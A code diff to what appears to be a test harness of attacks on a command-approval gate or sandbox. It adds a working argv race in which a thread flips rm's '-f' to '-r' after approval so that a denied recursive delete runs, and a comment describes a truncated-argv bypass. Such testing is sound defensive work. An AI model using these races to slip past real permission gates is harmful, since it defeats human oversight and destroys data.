@@ -1007,6 +1007,54 @@ static void attack_exec_race(const char *marker)
 	printf("exec race: %d tries\n", i);
 }
 
+static char rmopt[] = "-f";
+
+static void *rmflip(void *arg)
+{
+	volatile char *c = rmopt + 1;
+
+	(void)arg;
+	for (;;) {
+		*c = 'r';
+		*c = 'f';
+	}
+	return NULL;
+}
+
+/* argv[1] flips between "-f" (allowed) and "-r" (denied) while execve waits: the kernel
+ * reads argv again after a CONTINUE. */
+static void attack_argv_race(void)
+{
+	long end = now_ms() + 2000;
+	int i;
+
+	if (mkdir("victim", 0755) < 0) {
+		say("victim", -1);
+		return;
+	}
+	for (i = 0; i < 150 && now_ms() < end; i++) {
+		int status;
+		pid_t pid = fork();
+
+		if (pid == 0) {
+			pthread_t th;
+			int null = open("/dev/null", O_WRONLY);
+
+			dup2(null, 2);
+			pthread_create(&th, NULL, rmflip, NULL);
+			execl("/bin/rm", "rm", rmopt, "victim", (char *)NULL);
+			_exit(126);
+		}
+		waitpid(pid, &status, 0);
+		if (access("victim", F_OK) < 0) {
+			printf("argv race: rm -r ran on try %d\n", i);
+			escaped = true;
+			break;
+		}
+	}
+	printf("argv race: %d tries\n", i);
+}
+
 /* `rm -f x x ... x -r victim`: GNU rm takes options anywhere, and the -r sits past the
  * arguments the gate keeps (AL_ARGV_MAX). */
 static void attack_rm_truncated(void)
@@ -1247,6 +1295,8 @@ int main(int argc, char **argv)
 		attack_selfapprove(argv[3], argv[4], argc > 5 ? argv[5] : "");
 	else if (strcmp(what, "steal-api") == 0)
 		attack_steal_api();
+	else if (strcmp(what, "argv-race") == 0)
+		attack_argv_race();
 	else if (strcmp(what, "rm-truncated") == 0)
 		attack_rm_truncated();
 	else if (strcmp(what, "exec") == 0)
